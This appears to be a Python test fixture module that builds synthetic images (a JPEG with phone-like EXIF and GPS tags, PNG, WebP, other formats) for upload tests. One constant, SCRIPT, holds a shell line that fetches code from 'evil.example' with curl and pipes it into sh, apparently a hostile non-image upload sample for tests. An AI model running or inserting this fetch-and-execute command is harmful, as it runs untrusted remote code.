"""Photos made on the spot for the upload tests: a phone-like JPEG with EXIF (maker, orientation, GPS), PNG, WebP,
and the things that are not photos."""
from __future__ import annotations

import io

from PIL import Image, TiffImagePlugin

R = TiffImagePlugin.IFDRational
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def dms(value: float) -> tuple[R, R, R]:
    value = abs(value)
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = round((value - degrees - minutes / 60) * 3600, 4)
    return R(degrees), R(minutes), R(seconds)


def jpeg_with_exif(
    latitude: float | None = 39.7511, longitude: float | None = 116.1402, *, size: tuple[int, int] = (1200, 800),
    orientation: int | None = None, color: tuple[int, int, int] = (200, 60, 40),
) -> bytes:
    """A JPEG as a phone writes it: maker, model, date, serial and (unless None) the GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "AcmePhone"  # Make
    exif[0x0110] = "X1 Pro"  # Model
    exif[0x0132] = "2026:11:27 08:15:00"  # DateTime
    if orientation:
        exif[0x0112] = orientation
    if latitude is not None and longitude is not None:
        exif.get_ifd(0x8825).update(
            {1: "N" if latitude >= 0 else "S", 2: dms(latitude), 3: "E" if longitude >= 0 else "W", 4: dms(longitude)}
        )
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG", exif=exif, quality=90)
    return out.getvalue()


def png(size: tuple[int, int] = (640, 480), mode: str = "RGBA") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (10, 120, 200, 0) if mode == "RGBA" else (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


def webp(size: tuple[int, int] = (640, 480)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 160, 60)).save(out, "WEBP")
    return out.getvalue()


def other_format(fmt: str, size: tuple[int, int] = (64, 64)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (1, 2, 3)).save(out, fmt)
    return out.getvalue()
